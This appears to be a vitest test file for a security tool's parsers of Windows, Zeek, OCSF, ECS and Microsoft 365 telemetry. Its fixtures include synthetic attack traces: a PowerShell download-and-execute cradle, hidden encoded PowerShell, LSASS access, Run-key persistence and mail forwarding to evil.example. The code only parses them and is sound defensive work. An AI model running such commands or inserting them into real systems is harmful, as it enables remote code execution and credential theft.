/**
 * Telemetry formats, record by record: every Windows event id autoir promises to cover, in each of the three JSON
 * shapes; Zeek TSV and JSON; OCSF activity classes; ECS events.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { EventDraft } from '../../domain/event.js';
import { DocumentParser } from '../parse-batch.js';
import { ecsEventFormat } from './ecs-events.js';
import { ocsfFormat } from './ocsf.js';
import { sniffFormat } from './index.js';
import { windowsFormat } from './windows.js';
import { zeekFormat } from './zeek.js';

const root = path.resolve(import.meta.dirname, '../../..');
const HOST = 'WS1.corp.example';
const DEVICE = 'device:ws1.corp.example';

function one(result: ReturnType<typeof windowsFormat.parse>): EventDraft {
  if (!('events' in result) || result.events?.length !== 1) throw new Error('expected one event');
  return result.events[0] as EventDraft;
}

/** An NXLog-shaped record (fields beside the envelope). */
function flat(channel: string, eventId: number, data: Record<string, string>, provider?: string) {
  return {
    SourceName:
      provider ??
      (channel.includes('Sysmon')
        ? 'Microsoft-Windows-Sysmon'
        : channel === 'Security'
          ? 'Microsoft-Windows-Security-Auditing'
          : 'Microsoft-Windows-PowerShell'),
    Channel: channel,
    Hostname: HOST,
    TimeCreated: '2024-03-01T10:00:00.000Z',
    EventID: eventId,
    ...data,
  };
}

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const proc = {
  ProcessGuid: '{11111111-2222-3333-4444-555555555555}',
  ProcessId: '4242',
  Image: 'C:\\Tools\\a.exe',
  User: 'CORP\\alice',
};
const PROCESS = 'process:ws1.corp.example:11111111-2222-3333-4444-555555555555';
const HASHES =
  'SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3,MD5=098F6BCD4621D373CADE4E832627B4F6,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08';
const SHA256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';

const windowsCases: [string, ReturnType<typeof flat>, Partial<EventDraft>][] = [
  [
    'Sysmon 1',
    flat(SYSMON, 1, {
      ...proc,
      CommandLine: 'a.exe -x',
      Hashes: HASHES,
      ParentProcessGuid: '{99999999-2222-3333-4444-555555555555}',
      ParentProcessId: '1',
    }),
    {
      kind: 'processStart',
      processKey: PROCESS,
      parentProcessKey: 'process:ws1.corp.example:99999999-2222-3333-4444-555555555555',
      commandLine: 'a.exe -x',
      sha256: SHA256,
      userKey: 'user:corp\\alice',
    },
  ],
  [
    'Sysmon 3',
    flat(SYSMON, 3, {
      ...proc,
      Protocol: 'tcp',
      SourceIp: '10.0.0.5',
      SourcePort: '50000',
      DestinationIp: '203.0.113.7',
      DestinationPort: '443',
      DestinationHostname: 'c2.example.net',
    }),
    {
      kind: 'networkConnection',
      dstIp: '203.0.113.7',
      dstPort: 443,
      srcPort: 50000,
      protocol: 'tcp',
      domain: 'c2.example.net',
    },
  ],
  ['Sysmon 5', flat(SYSMON, 5, proc), { kind: 'processEnd', processKey: PROCESS }],
  [
    'Sysmon 6',
    flat(SYSMON, 6, { ImageLoaded: 'C:\\Windows\\System32\\drivers\\x.sys', Hashes: HASHES }),
    { kind: 'driverLoad', targetPath: 'C:\\Windows\\System32\\drivers\\x.sys', sha256: SHA256 },
  ],
  [
    'Sysmon 7',
    flat(SYSMON, 7, { ...proc, ImageLoaded: 'C:\\x\\evil.dll', Hashes: HASHES }),
    { kind: 'imageLoad', targetPath: 'C:\\x\\evil.dll', sha256: SHA256, processKey: PROCESS },
  ],
  [
    'Sysmon 8',
    flat(SYSMON, 8, {
      SourceProcessGuid: proc.ProcessGuid,
      SourceProcessId: '4242',
      SourceImage: proc.Image,
      TargetProcessGuid: '{77777777-2222-3333-4444-555555555555}',
      TargetProcessId: '700',
      TargetImage: 'C:\\Windows\\explorer.exe',
    }),
    {
      kind: 'remoteThread',
      processKey: PROCESS,
      targetProcessKey: 'process:ws1.corp.example:77777777-2222-3333-4444-555555555555',
    },
  ],
  [
    'Sysmon 10',
    flat(SYSMON, 10, {
      SourceProcessGUID: proc.ProcessGuid,
      SourceProcessId: '4242',
      SourceImage: proc.Image,
      TargetProcessGUID: '{66666666-2222-3333-4444-555555555555}',
      TargetProcessId: '640',
      TargetImage: 'C:\\Windows\\system32\\lsass.exe',
      GrantedAccess: '0x1010',
      SourceUser: 'CORP\\alice',
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    }),
    {
      kind: 'processAccess',
      processKey: PROCESS,
      targetPath: 'C:\\Windows\\system32\\lsass.exe',
      targetUserKey: 'user:nt authority\\system',
      userKey: 'user:corp\\alice',
    },
  ],
  [
    'Sysmon 11',
    flat(SYSMON, 11, { ...proc, TargetFilename: 'C:\\Users\\alice\\Downloads\\x.exe' }),
    { kind: 'fileCreate', targetPath: 'C:\\Users\\alice\\Downloads\\x.exe' },
  ],
  [
    'Sysmon 12',
    flat(SYSMON, 12, { ...proc, EventType: 'DeleteKey', TargetObject: 'HKLM\\SOFTWARE\\Evil' }),
    { kind: 'registryDelete' },
  ],
  [
    'Sysmon 13',
    flat(SYSMON, 13, {
      ...proc,
      EventType: 'SetValue',
      TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x',
      Details: 'C:\\x.exe',
    }),
    { kind: 'registrySet', registryValue: 'C:\\x.exe' },
  ],
  [
    'Sysmon 14',
    flat(SYSMON, 14, {
      ...proc,
      EventType: 'RenameKey',
      TargetObject: 'HKLM\\SOFTWARE\\A',
      NewName: 'HKLM\\SOFTWARE\\B',
    }),
    { kind: 'registryRename', registryValue: 'HKLM\\SOFTWARE\\B' },
  ],
  [
    'Sysmon 15',
    flat(SYSMON, 15, { ...proc, TargetFilename: 'C:\\x.exe:Zone.Identifier', Hash: HASHES }),
    { kind: 'fileStream', sha256: SHA256 },
  ],
  [
    'Sysmon 17',
    flat(SYSMON, 17, { ...proc, PipeName: '\\msagent_12' }),
    { kind: 'pipeCreate', targetPath: '\\msagent_12' },
  ],
  [
    'Sysmon 18',
    flat(SYSMON, 18, { ...proc, PipeName: '\\lsarpc' }),
    { kind: 'pipeConnect', targetPath: '\\lsarpc' },
  ],
  [
    'Sysmon 22',
    flat(SYSMON, 22, {
      ...proc,
      QueryName: 'c2.example.net',
      QueryResults: 'type:  5 cdn.example.net;::ffff:203.0.113.7;',
    }),
    { kind: 'dnsQuery', domain: 'c2.example.net' },
  ],
  [
    'Sysmon 23',
    flat(SYSMON, 23, { ...proc, TargetFilename: 'C:\\x.txt', Hashes: HASHES }),
    { kind: 'fileDelete', sha256: SHA256 },
  ],
  [
    'Sysmon 25',
    flat(SYSMON, 25, { ...proc, Type: 'Image is replaced' }),
    { kind: 'processTampering', processKey: PROCESS },
  ],
  [
    'Sysmon 26',
    flat(SYSMON, 26, { ...proc, TargetFilename: 'C:\\y.txt', Hashes: HASHES }),
    { kind: 'fileDelete', targetPath: 'C:\\y.txt' },
  ],
  [
    'Security 4624',
    flat('Security', 4624, {
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: 'WS1$',
      SubjectDomainName: 'CORP',
      TargetUserSid: 'S-1-5-21-1-2-3-1104',
      TargetUserName: 'alice',
      TargetDomainName: 'CORP',
      LogonType: '3',
      IpAddress: '10.0.0.9',
      IpPort: '51000',
      ProcessId: '0x2b0',
      ProcessName: 'C:\\Windows\\System32\\lsass.exe',
    }),
    { kind: 'logon', userKey: 'user:corp\\alice', srcIp: '10.0.0.9', srcPort: 51000 },
  ],
  [
    'Security 4625',
    flat('Security', 4625, {
      TargetUserName: 'alice',
      TargetDomainName: 'CORP',
      IpAddress: '198.51.100.3',
      Status: '0xc000006d',
    }),
    { kind: 'logonFailed', outcome: 'failure', srcIp: '198.51.100.3' },
  ],
  [
    'Security 4648',
    flat('Security', 4648, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      TargetUserName: 'admin',
      TargetDomainName: 'CORP',
      TargetServerName: 'dc01.corp.example',
      IpAddress: '-',
    }),
    { kind: 'explicitCredentials', userKey: 'user:corp\\admin', domain: 'dc01.corp.example' },
  ],
  [
    'Security 4672',
    flat('Security', 4672, {
      SubjectUserSid: 'S-1-5-21-1-2-3-500',
      SubjectUserName: 'administrator',
      SubjectDomainName: 'CORP',
      PrivilegeList: 'SeDebugPrivilege',
    }),
    { kind: 'specialPrivileges', userKey: 'user:corp\\administrator' },
  ],
  [
    'Security 4688',
    flat('Security', 4688, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      NewProcessId: '0x1a2b',
      NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
      ProcessId: '0x10',
      CommandLine: 'cmd /c whoami',
    }),
    {
      kind: 'processStart',
      processKey: 'process:ws1.corp.example:6699@2024-03-01t10:00:00.000z',
      parentProcessKey: 'process:ws1.corp.example:16',
      commandLine: 'cmd /c whoami',
      imagePath: 'C:\\Windows\\System32\\cmd.exe',
    },
  ],
  [
    'Security 4697',
    flat('Security', 4697, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      ServiceName: 'evilsvc',
      ServiceFileName: 'C:\\x\\svc.exe',
    }),
    { kind: 'serviceInstall', targetPath: 'C:\\x\\svc.exe' },
  ],
  [
    'Security 4698',
    flat('Security', 4698, { SubjectUserName: 'alice', SubjectDomainName: 'CORP', TaskName: '\\Updater' }),
    { kind: 'taskCreate', targetPath: '\\Updater' },
  ],
  [
    'Security 4720',
    flat('Security', 4720, {
      SubjectUserName: 'admin',
      SubjectDomainName: 'CORP',
      TargetUserName: 'backdoor',
      TargetDomainName: 'CORP',
      TargetSid: 'S-1-5-21-1-2-3-1999',
    }),
    { kind: 'accountCreate', userKey: 'user:corp\\admin', targetUserKey: 'user:corp\\backdoor' },
  ],
  [
    'Security 4768',
    flat('Security', 4768, {
      TargetUserName: 'alice',
      TargetDomainName: 'CORP',
      IpAddress: '::ffff:10.0.0.9',
      Status: '0x0',
    }),
    { kind: 'kerberosTgt', outcome: 'success', srcIp: '10.0.0.9' },
  ],
  [
    'Security 4769',
    flat('Security', 4769, {
      TargetUserName: 'alice@CORP.EXAMPLE',
      ServiceName: 'cifs/fs01',
      IpAddress: '::ffff:10.0.0.9',
      Status: '0x0',
    }),
    { kind: 'kerberosService', targetPath: 'cifs/fs01' },
  ],
  [
    'Security 4776',
    flat('Security', 4776, { TargetUserName: 'alice', Workstation: 'WS1', Status: '0xc0000064' }),
    { kind: 'credentialValidation', outcome: 'failure' },
  ],
  [
    'Security 5140',
    flat('Security', 5140, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      IpAddress: '10.0.0.9',
      ShareName: '\\\\*\\C$',
    }),
    { kind: 'shareAccess', targetPath: '\\\\*\\C$' },
  ],
  [
    'Security 5145',
    flat('Security', 5145, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      IpAddress: '10.0.0.9',
      ShareName: '\\\\*\\ADMIN$',
      RelativeTargetName: 'x.exe',
    }),
    { kind: 'shareAccess', targetPath: '\\\\*\\ADMIN$\\x.exe' },
  ],
  [
    'Security 5156',
    flat('Security', 5156, {
      ProcessID: '4242',
      Application: '\\device\\harddiskvolume2\\tools\\a.exe',
      Direction: '%%14593',
      SourceAddress: '10.0.0.5',
      SourcePort: '50001',
      DestAddress: '203.0.113.7',
      DestPort: '8080',
      Protocol: '6',
    }),
    {
      kind: 'networkConnection',
      protocol: 'tcp',
      dstPort: 8080,
      processKey: 'process:ws1.corp.example:4242',
    },
  ],
  [
    'PowerShell 4103',
    flat('Microsoft-Windows-PowerShell/Operational', 4103, {
      ContextInfo:
        '        Host Application = powershell.exe -enc AAA\n        User = CORP\\alice\n        Script Name = \n',
      Payload: 'CommandInvocation(Invoke-Expression)',
    }),
    {
      kind: 'pipelineExecution',
      userKey: 'user:corp\\alice',
      imagePath: 'powershell.exe -enc AAA',
      commandLine: 'CommandInvocation(Invoke-Expression)',
    },
  ],
  [
    'PowerShell 4104',
    flat('Microsoft-Windows-PowerShell/Operational', 4104, {
      ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
      Path: 'C:\\x.ps1',
    }),
    { kind: 'scriptBlock', commandLine: 'IEX (New-Object Net.WebClient).DownloadString("http://x")' },
  ],
];

describe('Windows events', () => {
  it.each(windowsCases)('%s', (_, record, expected) => {
    expect(sniffFormat(record)?.id).toBe('windows');
    const draft = one(windowsFormat.parse(record));
    expect(draft).toMatchObject({
      format: 'windows',
      deviceKey: DEVICE,
      time: Date.parse('2024-03-01T10:00:00.000Z'),
      ...expected,
    });
    for (const key of [draft.deviceKey, draft.userKey, draft.processKey, draft.targetProcessKey])
      if (key) expect(draft.keys).toContain(key);
  });

  it('learns the account behind a SID, and the short name of an FQDN', () => {
    const draft = one(windowsFormat.parse(windowsCases.find(([name]) => name === 'Security 4624')![1]));
    expect(draft.aliases).toEqual(
      expect.arrayContaining([
        ['device:ws1', DEVICE],
        ['user:s-1-5-21-1-2-3-1104', 'user:corp\\alice'],
      ]),
    );
  });

  it('reads fields that only exist in the message (Windows PowerShell 800)', () => {
    const record = {
      SourceName: 'PowerShell',
      Channel: 'Windows PowerShell',
      Hostname: HOST,
      TimeCreated: '2024-03-01T10:00:00.000Z',
      EventID: 800,
      Message:
        'Pipeline execution details for command line: IEX x\r\n\r\nContext Information: \r\n\tUserId=CORP\\alice\r\n\tHostApplication=powershell.exe -nop -w hidden\r\n',
    };
    expect(one(windowsFormat.parse(record))).toMatchObject({
      kind: 'pipelineExecution',
      userKey: 'user:corp\\alice',
      commandLine: 'powershell.exe -nop -w hidden',
    });
  });

  it('gives the same event from NXLog, Winlogbeat and evtx_dump shapes of one real record', () => {
    const line = readFileSync(
      path.join(root, 'test/fixtures/events/otrf/lsass_campaign_01_sample.ndjson'),
      'utf8',
    ).split('\n')[0] as string;
    const nxlog = JSON.parse(line) as Record<string, unknown>;
    const envelope = new Set([
      'SourceName',
      'ProviderGuid',
      'Level',
      'Keywords',
      'Channel',
      'Hostname',
      'TimeCreated',
      '@timestamp',
      'EventID',
      'Message',
      'Task',
    ]);
    const data = Object.fromEntries(Object.entries(nxlog).filter(([key]) => !envelope.has(key)));
    const winlogbeat = {
      '@timestamp': nxlog['@timestamp'],
      event: { code: '1', kind: 'event' },
      host: { name: 'MKT01.pandalab.com' },
      winlog: {
        channel: nxlog.Channel,
        event_id: 1,
        provider_name: 'Microsoft-Windows-Sysmon',
        computer_name: 'MKT01.pandalab.com',
        event_data: data,
      },
    };
    const evtxDump = {
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
          EventID: 1,
          TimeCreated: { '#attributes': { SystemTime: nxlog.TimeCreated } },
          Channel: nxlog.Channel,
          Computer: 'MKT01.pandalab.com',
        },
        EventData: data,
      },
    };
    const drafts = [nxlog, winlogbeat, evtxDump].map((record) => {
      expect(sniffFormat(record)?.id).toBe('windows');
      return one(windowsFormat.parse(record));
    });
    expect(drafts[1]).toEqual(drafts[0]);
    expect(drafts[2]).toEqual(drafts[0]);
    expect(drafts[0]).toMatchObject({ kind: 'processStart', deviceKey: 'device:mkt01.pandalab.com' });
  });

  it('refuses a record without an event id or a time, naming the field', () => {
    expect(() => windowsFormat.parse({ Channel: 'Security', EventID: 'x', Hostname: HOST })).toThrow(
      /EventID/,
    );
    expect(() => windowsFormat.parse({ Channel: 'Security', EventID: 4624, Hostname: HOST })).toThrow(
      /TimeCreated/,
    );
  });
});

describe('Zeek', () => {
  it('reads TSV logs with their headers, and JSON logs, into the same events', async () => {
    const tsv = [
      '#separator \\x09',
      '#set_separator\t,',
      '#empty_field\t(empty)',
      '#unset_field\t-',
      '#path\tdns',
      '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\tquery\trcode_name\tanswers',
      '#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tstring\tstring\tvector[string]',
      '1692161622.036086\tCnsu5m395zFmE9ikp4\t192.168.1.41\t52605\t192.168.1.4\t53\tudp\t1\tc2.example.net\tNOERROR\t203.0.113.7,cdn.example.net',
      '1692161622.1\tCbad\t192.168.1.41',
      '',
    ].join('\n');
    const parser = new DocumentParser({ name: 'dns.log' });
    const items = [...parser.push(Buffer.from(tsv)), ...(await parser.end())];
    expect(items[1]).toEqual({
      ok: false,
      error: { line: 9, message: 'zeek: expected 11 tab-separated fields (#fields), found 3' },
    });
    const first = items[0];
    if (!first?.ok) throw new Error('expected an event');
    const json = {
      ts: 1692161622.036086,
      uid: 'Cnsu5m395zFmE9ikp4',
      'id.orig_h': '192.168.1.41',
      'id.orig_p': 52605,
      'id.resp_h': '192.168.1.4',
      'id.resp_p': 53,
      proto: 'udp',
      trans_id: 1,
      query: 'c2.example.net',
      rcode_name: 'NOERROR',
      answers: ['203.0.113.7', 'cdn.example.net'],
    };
    expect(sniffFormat(json)?.id).toBe('zeek');
    const draft = one(zeekFormat.parse(json));
    expect(draft).toMatchObject({
      kind: 'dnsQuery',
      code: 'dns',
      domain: 'c2.example.net',
      outcome: 'success',
      srcIp: '192.168.1.41',
      dstPort: 53,
    });
    expect(draft.keys).toEqual(
      expect.arrayContaining(['ip:203.0.113.7', 'domain:cdn.example.net', 'domain:c2.example.net']),
    );
    // The TSV record is the same event (its raw record is the JSON Zeek would have written, with `_path`).
    expect(first.events[0]?.values.slice(1, 34)).toEqual(
      await (async () => {
        const again = new DocumentParser({ name: 'dns.json' });
        const got = [
          ...again.push(Buffer.from(`${JSON.stringify({ _path: 'dns', ...json })}\n`)),
          ...(await again.end()),
        ];
        return got[0]?.ok ? got[0].events[0]?.values.slice(1, 34) : undefined;
      })(),
    );
  });

  it('reads the other logs: http with its URL, files with hashes, kerberos with the client account', () => {
    const base = {
      ts: 1692161644.0,
      uid: 'C1',
      'id.orig_h': '192.168.1.41',
      'id.orig_p': 55213,
      'id.resp_h': '10.0.5.13',
      'id.resp_p': 8080,
    };
    expect(
      one(
        zeekFormat.parse({
          ...base,
          _path: 'http',
          method: 'GET',
          host: '10.0.5.13',
          uri: '/payload.exe',
          status_code: 200,
        }),
      ),
    ).toMatchObject({ kind: 'httpRequest', url: 'http://10.0.5.13:8080/payload.exe' });
    expect(
      one(
        zeekFormat.parse({
          ...base,
          _path: 'files',
          fuid: 'F1',
          mime_type: 'application/x-dosexec',
          filename: 'payload.exe',
          sha256: SHA256,
        }),
      ),
    ).toMatchObject({ kind: 'fileTransfer', sha256: SHA256, targetPath: 'payload.exe' });
    expect(
      one(
        zeekFormat.parse({
          ...base,
          _path: 'kerberos',
          request_type: 'TGS',
          client: 'alice/CORP.EXAMPLE',
          service: 'cifs/fs01',
          success: true,
        }),
      ),
    ).toMatchObject({ kind: 'kerberosService', userKey: 'user:corp\\alice', outcome: 'success' });
    expect(() => zeekFormat.parse({ ...base, ts: 'yesterday' })).toThrow(/ts is not a time/);
  });
});

describe('OCSF activity events', () => {
  const device = { hostname: 'ws1', domain: 'corp.example' };
  it('Process Activity 1007: launch with parent and hashes', () => {
    const draft = one(
      ocsfFormat.parse({
        class_uid: 1007,
        activity_id: 1,
        time: 1709287200000,
        device,
        process: {
          pid: 4242,
          uid: '11111111-2222-3333-4444-555555555555',
          cmd_line: 'a.exe -x',
          file: { path: 'C:\\Tools\\a.exe', hashes: [{ algorithm_id: 3, value: SHA256 }] },
          parent_process: { pid: 1 },
          user: { name: 'alice', domain: 'CORP' },
        },
      }),
    );
    expect(draft).toMatchObject({
      kind: 'processStart',
      format: 'ocsf',
      code: '1007',
      deviceKey: DEVICE,
      processKey: PROCESS,
      parentProcessKey: 'process:ws1.corp.example:1',
      sha256: SHA256,
      userKey: 'user:corp\\alice',
    });
  });
  it('File 1001, Network 4001, HTTP 4002, DNS 4003, Authentication 3002, Email 4009', () => {
    const at = { time: 1709287200000, device };
    expect(
      one(
        ocsfFormat.parse({
          ...at,
          class_uid: 1001,
          activity_id: 1,
          file: { path: 'C:\\x.exe', hashes: [{ algorithm: 'SHA-256', value: SHA256 }] },
        }),
      ),
    ).toMatchObject({ kind: 'fileCreate', targetPath: 'C:\\x.exe', sha256: SHA256 });
    expect(
      one(
        ocsfFormat.parse({
          ...at,
          class_uid: 4001,
          activity_id: 1,
          src_endpoint: { ip: '10.0.0.5', port: 50000 },
          dst_endpoint: { ip: '203.0.113.7', port: 443, hostname: 'c2.example.net' },
          connection_info: { protocol_name: 'TCP' },
        }),
      ),
    ).toMatchObject({
      kind: 'networkConnection',
      dstIp: '203.0.113.7',
      protocol: 'tcp',
      domain: 'c2.example.net',
    });
    expect(
      one(
        ocsfFormat.parse({
          ...at,
          class_uid: 4002,
          activity_id: 3,
          http_request: { url: { url_string: 'https://c2.example.net/x?y=1' }, user_agent: 'curl' },
          http_response: { code: 404 },
        }),
      ),
    ).toMatchObject({ kind: 'httpRequest', url: 'https://c2.example.net/x?y=1', outcome: 'failure' });
    expect(
      one(
        ocsfFormat.parse({
          ...at,
          class_uid: 4003,
          activity_id: 2,
          query: { hostname: 'c2.example.net' },
          answers: [{ rdata: '203.0.113.7' }],
          rcode_id: 0,
        }),
      ),
    ).toMatchObject({ kind: 'dnsQuery', domain: 'c2.example.net', outcome: 'success' });
    expect(
      one(
        ocsfFormat.parse({
          ...at,
          class_uid: 3002,
          activity_id: 1,
          status_id: 2,
          user: { name: 'alice', domain: 'CORP' },
          src_endpoint: { ip: '198.51.100.3' },
        }),
      ),
    ).toMatchObject({
      kind: 'logonFailed',
      userKey: 'user:corp\\alice',
      srcIp: '198.51.100.3',
      outcome: 'failure',
    });
    const mail = one(
      ocsfFormat.parse({
        ...at,
        class_uid: 4009,
        activity_id: 2,
        email: {
          from: 'billing@pay-portal.example',
          to: ['alice@corp.example'],
          subject: 'Invoice',
          message_uid: '<inv-1@pay-portal.example>',
          urls: [{ url_string: 'http://pay-portal.example/i' }],
        },
        email_auth: { spf: 'fail' },
      }),
    );
    expect(mail).toMatchObject({
      kind: 'emailDelivered',
      mailSender: 'billing@pay-portal.example',
      mailRecipients: ['alice@corp.example'],
      mailMessageId: 'inv-1@pay-portal.example',
      url: 'http://pay-portal.example/i',
      outcome: 'failure',
    });
  });
  it('still reads a Detection Finding 2004 as an alert', () => {
    const finding = JSON.parse(
      readFileSync(path.join(root, 'test/fixtures/alerts/ocsf/lsass-access-detection-finding.json'), 'utf8'),
    ) as Record<string, unknown>;
    const result = ocsfFormat.parse(finding);
    expect('alerts' in result && result.alerts.length).toBe(1);
  });
});

describe('ECS events', () => {
  const base = {
    '@timestamp': '2024-03-01T10:00:00.000Z',
    ecs: { version: '8.11.0' },
    host: { name: 'ws1.corp.example' },
    user: { name: 'alice', domain: 'CORP' },
  };
  it('process start, network, file, registry, dns, authentication', () => {
    const process = {
      entity_id: '{11111111-2222-3333-4444-555555555555}',
      pid: 4242,
      executable: 'C:\\Tools\\a.exe',
      command_line: 'a.exe -x',
      hash: { sha256: SHA256 },
      parent: { pid: 1 },
    };
    const start = {
      ...base,
      event: { category: ['process'], type: ['start'], dataset: 'endpoint.events.process' },
      process,
    };
    expect(sniffFormat(start)?.id).toBe('ecs');
    expect(one(ecsEventFormat.parse(start))).toMatchObject({
      kind: 'processStart',
      source: 'endpoint.events.process',
      processKey: PROCESS,
      sha256: SHA256,
      userKey: 'user:corp\\alice',
      deviceKey: DEVICE,
    });
    expect(
      one(
        ecsEventFormat.parse({
          ...base,
          event: { category: ['network'], type: ['connection'] },
          process,
          source: { ip: '10.0.0.5', port: 50000 },
          destination: { ip: '203.0.113.7', port: 443, domain: 'c2.example.net' },
          network: { transport: 'tcp' },
        }),
      ),
    ).toMatchObject({
      kind: 'networkConnection',
      dstIp: '203.0.113.7',
      domain: 'c2.example.net',
      processKey: PROCESS,
    });
    expect(
      one(
        ecsEventFormat.parse({
          ...base,
          event: { category: ['file'], type: ['creation'] },
          file: { path: 'C:\\x.exe', hash: { sha256: SHA256 } },
        }),
      ),
    ).toMatchObject({ kind: 'fileCreate', targetPath: 'C:\\x.exe', sha256: SHA256 });
    expect(
      one(
        ecsEventFormat.parse({
          ...base,
          event: { category: ['registry'], type: ['change'] },
          registry: { path: 'HKLM\\SOFTWARE\\Run\\x', data: { strings: ['C:\\x.exe'] } },
        }),
      ),
    ).toMatchObject({ kind: 'registrySet', registryValue: 'C:\\x.exe' });
    expect(
      one(
        ecsEventFormat.parse({
          ...base,
          event: { category: ['network'], type: ['protocol'] },
          dns: { question: { name: 'c2.example.net' }, resolved_ip: ['203.0.113.7'] },
        }),
      ),
    ).toMatchObject({ kind: 'dnsQuery', domain: 'c2.example.net' });
    expect(
      one(
        ecsEventFormat.parse({
          ...base,
          event: { category: ['authentication'], type: ['start'], outcome: 'failure' },
          source: { ip: '198.51.100.3' },
        }),
      ),
    ).toMatchObject({ kind: 'logonFailed', outcome: 'failure', srcIp: '198.51.100.3' });
    expect(
      one(
        ecsEventFormat.parse({
          ...base,
          event: { category: ['authentication'], type: ['start'], outcome: 'success' },
          source: {
            ip: '198.51.100.3',
            geo: { location: { lat: 48.85, lon: 2.35 }, city_name: 'Paris', country_iso_code: 'FR' },
          },
        }),
      ).details,
    ).toEqual({ geo: { lat: 48.85, lon: 2.35, city: 'Paris', country: 'FR' } });
  });
  it('leaves Winlogbeat documents to the Windows format and alerts to the elastic format', () => {
    expect(sniffFormat({ ...base, winlog: { event_id: 1, channel: SYSMON } })?.id).toBe('windows');
    expect(sniffFormat({ ...base, 'kibana.alert.rule.name': 'x' })?.id).toBe('elastic');
  });
});

describe('Microsoft 365 audit records', () => {
  it('reads an inbox rule that forwards outside as a mailboxRule event, and sign-ins as logons', async () => {
    const { m365AuditFormat } = await import('./m365-audit.js');
    const rule = {
      CreationTime: '2026-03-02T10:00:00',
      Operation: 'New-InboxRule',
      RecordType: 1,
      Workload: 'Exchange',
      UserId: 'Bob@Corp.example',
      ClientIP: '[2001:db8::7]:443',
      Parameters: [
        { Name: 'Name', Value: 'x' },
        { Name: 'ForwardTo', Value: 'smtp:out@evil.example;"Boss" [SMTP:boss@corp.example]' },
        { Name: 'MoveToFolder', Value: 'RSS Feeds' },
      ],
    };
    expect(sniffFormat(rule)?.id).toBe('m365');
    const event = one(m365AuditFormat.parse(rule));
    expect(event).toMatchObject({
      kind: 'mailboxRule',
      time: Date.parse('2026-03-02T10:00:00Z'),
      srcIp: '2001:db8::7',
      targetPath: 'x',
      mailRecipients: ['bob@corp.example'],
      details: {
        operation: 'New-InboxRule',
        forwardTo: ['out@evil.example', 'boss@corp.example'],
        moveToFolder: 'RSS Feeds',
      },
    });
    expect(event.keys).toEqual(
      expect.arrayContaining(['mailbox:bob@corp.example', 'mailbox:out@evil.example']),
    );
    const login = one(
      m365AuditFormat.parse({
        ...rule,
        Operation: 'UserLoginFailed',
        Workload: 'AzureActiveDirectory',
        Parameters: [],
      }),
    );
    expect(login).toMatchObject({ kind: 'logonFailed', outcome: 'failure' });
    expect(() => m365AuditFormat.parse({ ...rule, CreationTime: 'soon' })).toThrow(/CreationTime/);
  });
});
